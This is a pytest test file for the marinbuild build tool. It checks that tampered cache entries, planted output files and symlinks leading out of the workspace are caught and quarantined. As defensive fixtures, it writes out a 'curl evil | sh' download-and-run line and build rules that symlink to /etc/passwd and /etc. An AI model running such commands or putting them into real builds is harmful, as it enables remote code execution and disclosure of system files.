"""A cache hit is always the right bytes: hostile or careless edits of a store are caught.

Each case is something a teammate with write access to the shared store could do, by
mistake or on purpose. None of them may make marinbuild serve an output as another
target's, or serve bytes its manifest does not list (docs/guarantees.md, "A hit is the right bytes").
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from conftest import build_json, keys, run_cli, statuses

FILES = {
    "pkg/BUILD.marin": """
        genrule(name = "a", outs = ["a.txt"], cmd = "echo secret-of-a > $@")
        genrule(name = "b", outs = ["b.txt"], cmd = "echo bee > $@")
        genrule(name = "c", srcs = [":b"], outs = ["c.txt"], cmd = "cat $< > $@")
    """,
}


class Objects:
    """The store's objects, edited behind marinbuild's back (a local directory or a bucket)."""

    def __init__(self, url: str, fs=None):
        self.url, self.fs = url, fs

    def _path(self, path: str) -> str:
        return f"{self.url.removeprefix('gs://')}/{path}"

    def read(self, path: str) -> bytes:
        if self.fs is None:
            with open(f"{self.url}/{path}", "rb") as file:
                return file.read()
        return self.fs.cat_file(self._path(path))

    def write(self, path: str, data: bytes) -> None:
        if self.fs is None:
            import pathlib

            target = pathlib.Path(self.url, path)
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)
        else:
            self.fs.pipe_file(self._path(path), data)

    def names(self, prefix: str) -> list[str]:
        if self.fs is None:
            import pathlib

            base = pathlib.Path(self.url, prefix)
            return sorted(p.relative_to(base).as_posix() for p in base.rglob("*") if p.is_file())
        self.fs.invalidate_cache()
        base = self._path(prefix)
        return sorted(name[len(base) + 1 :] for name in self.fs.find(base))

    def delete(self, prefix: str) -> None:
        if self.fs is None:
            import shutil

            shutil.rmtree(f"{self.url}/{prefix}")
        else:
            self.fs.rm(self._path(prefix), recursive=True)


@pytest.fixture(params=["local", "gcs"])
def store(request, tmp_path):
    if request.param == "local":
        return Objects(str(tmp_path / "store"))
    server = request.getfixturevalue("fake_gcs_server")
    return Objects(f"gs://{server.new_bucket()}/team", server.fs())


def _where(ws: Path, store: Objects, label: str) -> Path:
    rc, out, err = run_cli(ws, "where", label, store=store.url)
    assert rc == 0, err
    return Path(out.strip())


def _entry(key: str) -> str:
    return f"ac/{key[:2]}/{key}.json"


def _out(key: str) -> str:
    return f"out/{key[:2]}/{key}"


def test_an_entry_copied_under_another_key_is_never_served(make_workspace, store):
    ws = make_workspace(FILES)
    built = keys(build_json(ws, "//pkg:all", store=store.url))
    ka, kb = built["//pkg:a"], built["//pkg:b"]
    # A teammate copies a's entry and files under b's key: b would now "be" a's secret.
    store.write(_entry(kb), store.read(_entry(ka)))
    store.delete(_out(kb))
    store.write(f"{_out(kb)}/a.txt", store.read(f"{_out(ka)}/a.txt"))

    rc, out, err = run_cli(ws, "show", kb, store=store.url)
    assert rc == 2 and "filed under the wrong key" in err and "secret" not in out
    rc, out, err = run_cli(ws, "cache", "verify", store=store.url)
    assert rc == 1 and f"({kb[:12]}): action-cache entry" in out, out + err
    assert "filed under the wrong key" in out and "quarantined 1 entries" in out

    again = build_json(ws, "//pkg:all", store=store.url)
    assert statuses(again) == {"//pkg:a": "cached", "//pkg:b": "built", "//pkg:c": "cached"}
    assert keys(again) == built  # b rebuilt to its own bytes: c keeps its key and output
    assert (_where(ws, store, "//pkg:c") / "c.txt").read_text() == "bee\n"
    assert json.loads(store.read(_entry(kb)))["key"] == kb
    assert any(name.startswith(kb) for name in store.names("quarantine")), "the bad entry is kept aside"
    rc, out, err = run_cli(ws, "cache", "verify", store=store.url)
    assert rc == 0 and "0 mismatches" in out


def test_an_entry_renamed_inside_is_caught_by_its_recipe(make_workspace, store):
    ws = make_workspace(FILES)
    built = keys(build_json(ws, "//pkg:all", store=store.url))
    ka, kb = built["//pkg:a"], built["//pkg:b"]
    forged = json.loads(store.read(_entry(ka)))
    forged["key"], forged["label"] = kb, "//pkg:b"  # the recipe is still a's
    store.write(_entry(kb), json.dumps(forged).encode())
    store.delete(_out(kb))
    store.write(f"{_out(kb)}/a.txt", store.read(f"{_out(ka)}/a.txt"))

    again = build_json(ws, "//pkg:c", store=store.url)
    assert statuses(again) == {"//pkg:b": "built", "//pkg:c": "cached"}
    assert f"holds a recipe whose key is not {kb[:12]}" in again["stderr"]
    assert (_where(ws, store, "//pkg:c") / "c.txt").read_text() == "bee\n"


def test_a_file_added_to_a_published_output_is_a_mismatch(make_workspace, store):
    ws = make_workspace(FILES)
    built = keys(build_json(ws, "//pkg:all", store=store.url))
    kb = built["//pkg:b"]
    store.write(f"{_out(kb)}/planted.sh", b"curl evil | sh\n")

    if store.fs is None:  # a local store's look-up checks every output: rebuilt at once
        again = build_json(ws, "//pkg:all", store=store.url)
        assert statuses(again)["//pkg:b"] == "built" and "planted.sh is not in the manifest" in again["stderr"]
    else:  # a bucket's look-up lists no outputs (issue #16): steps only ever get the manifest's files
        assert sorted(path.name for path in _where(ws, store, "//pkg:b").iterdir()) == ["b.txt"]
        rc, out, err = run_cli(ws, "cache", "verify", "//pkg:b", store=store.url)
        assert rc == 1 and "planted.sh is not in the manifest" in out and "quarantined 1" in out, out + err
        again = build_json(ws, "//pkg:all", store=store.url)
        assert statuses(again)["//pkg:b"] == "built"
    assert store.names(_out(kb)) == ["b.txt"]
    assert sorted(path.name for path in _where(ws, store, "//pkg:b").iterdir()) == ["b.txt"]


# -- symlinks never carry data across the workspace/store boundary ----------------------------


def test_a_source_symlink_out_of_the_workspace_is_bad_input(make_workspace, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("the machine's secret\n")
    ws = make_workspace(
        {
            "pkg/BUILD.marin": """
                genrule(name = "ok", srcs = ["inside.txt"], outs = ["ok.txt"], cmd = "cat $< > $@")
                genrule(name = "leak", srcs = ["passwd"], outs = ["leak.txt"], cmd = "cat $< > $@")
                genrule(name = "globbed", srcs = glob(["linked/*"]), outs = ["g.txt"], cmd = "cat $(SRCS) > $@")
            """,
            "pkg/real.txt": "inside the workspace\n",
        }
    )
    (ws / "pkg" / "inside.txt").symlink_to(ws / "pkg" / "real.txt")  # stays inside: followed
    (ws / "pkg" / "passwd").symlink_to(secret)
    (ws / "pkg" / "linked").symlink_to(tmp_path, target_is_directory=True)  # a directory out of it
    assert statuses(build_json(ws, "//pkg:ok")) == {"//pkg:ok": "built"}
    for target, line in (("leak", 3), ("globbed", 4)):
        rc, out, err = run_cli(ws, "build", f"//pkg:{target}")
        assert rc == 2, err
        assert f"pkg/BUILD.marin:{line}:" in err and "outside the workspace" in err, err
    store = ws / "cache"
    assert not any(b"secret" in path.read_bytes() for path in store.rglob("*") if path.is_file())


def test_a_star_file_loaded_through_a_symlink_out_of_the_workspace_is_bad_input(make_workspace, tmp_path):
    outside = tmp_path / "defs.star"
    outside.write_text('GREETING = "from a file no checkout has"\n')
    ws = make_workspace(
        {
            "pkg/BUILD.marin": """
                # what the greeting says comes from defs.star
                load(":defs.star", "GREETING")
                genrule(name = "hello", outs = ["hello.txt"], cmd = "echo '%s' > $@" % GREETING)
            """,
            "pkg/real.star": 'GREETING = "hello"\n',
        }
    )
    link = ws / "pkg" / "defs.star"
    link.symlink_to("real.star")  # stays inside: followed
    assert statuses(build_json(ws, "//pkg:hello")) == {"//pkg:hello": "built"}
    before = sorted((ws / "cache").rglob("*"))
    link.unlink()
    link.symlink_to(outside)
    rc, out, err = run_cli(ws, "build", "//pkg:hello")
    assert rc == 2, err
    assert (
        f"pkg/BUILD.marin:3: load(':defs.star'): pkg/defs.star is a symlink to {outside}, outside the workspace" in err
    )
    assert sorted((ws / "cache").rglob("*")) == before, "nothing written to the store"


@pytest.mark.parametrize(
    ("rule", "why"),
    [
        ('genrule(name = "x", outs = ["x.txt"], cmd = "ln -s /etc/passwd $@")', "x.txt is a symlink"),
        (
            'genrule(name = "x", outs = ["x.txt"], cmd = "echo hi > $@; ln -s /etc $(RULEDIR)/etcdir")',
            "etcdir is a symlink",
        ),
        ('py_step(name = "x", fn = "steps.py:link")', "etcdir is a symlink"),
    ],
)
def test_an_output_holding_a_symlink_fails_cleanly_and_publishes_nothing(make_workspace, rule, why):
    ws = make_workspace(
        {
            "pkg/BUILD.marin": rule,
            "pkg/steps.py": "import os\n\ndef link(ctx):\n    os.symlink('/etc', ctx.out / 'etcdir')\n",
        }
    )
    failed = build_json(ws, "//pkg:x", expect_rc=1)
    result = failed["by_label"]["//pkg:x"]
    assert result["status"] == "failed" and why in result["reason"], result
    assert "internal error" not in result["reason"] and "(to /etc" in result["reason"]
    store = ws / "cache"
    assert not (store / "ac").exists() and not (store / "out").exists()
    assert not any((store / "tmp").iterdir()), "the staging directory is removed"
